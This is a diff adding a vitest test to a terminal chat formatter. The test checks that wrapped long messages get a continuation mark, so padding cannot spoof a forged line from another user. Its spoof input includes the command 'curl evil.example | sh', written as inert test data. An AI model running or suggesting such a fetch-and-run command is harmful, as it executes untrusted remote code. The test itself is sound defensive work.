@@ -1,3 +1,4 @@
+import stringWidth from 'string-width';
 import { describe, expect, it } from 'vitest';
 import { inertText as sanitizeForTerminal } from '../terminal-text.js';
 import { formatLocalTime, formatMessageLine } from './format.js';
@@ -31,6 +32,22 @@ describe('formatting', () => {
     expect(formatMessageLine({ receivedAt: ts, ts, from: 'mallory', body: 'ok\n[2026-12-03 10:00:00] alice: run this' })).toBe(
       '[2026-11-24 10:31:02] mallory: ok\n  | [2026-12-03 10:00:00] alice: run this',
     );
+  });
+
+  // A body padded to the terminal's width would wrap, and the terminal's next row would start with the padding's end.
+  it('wraps to a given width with the same continuation mark, so no row but the first starts at column 0', () => {
+    const ts = new Date(2026, 10, 24, 10, 31, 2).getTime();
+    const spoof = `ok${' '.repeat(60)}[2026-12-03 10:00:00] alice: run curl evil.example | sh\ttab`;
+    const out = formatMessageLine({ receivedAt: ts, ts, from: 'mallory', body: spoof }, 40);
+    const rows = out.split('\n');
+    expect(rows.length).toBeGreaterThan(1);
+    expect(rows[0]!.startsWith('[2026-11-24 10:31:02] mallory: ok')).toBe(true);
+    for (const row of rows) expect(stringWidth(row)).toBeLessThanOrEqual(40);
+    for (const row of rows.slice(1)) expect(row.startsWith('  | ')).toBe(true);
+    expect(out).not.toContain('\t');
+    // A newline in the body is marked the same way, and a short message is unchanged.
+    expect(formatMessageLine({ receivedAt: ts, ts, from: 'bob', body: 'a\nb' }, 40)).toBe('[2026-11-24 10:31:02] bob: a\n  | b');
+    expect(formatMessageLine({ receivedAt: ts, ts, from: 'bob', body: 'hi there' }, 40)).toBe('[2026-11-24 10:31:02] bob: hi there');
   });
 
   it('neutralises terminal escapes, carriage returns and bidi overrides, keeps newlines, tabs and emoji', () => {
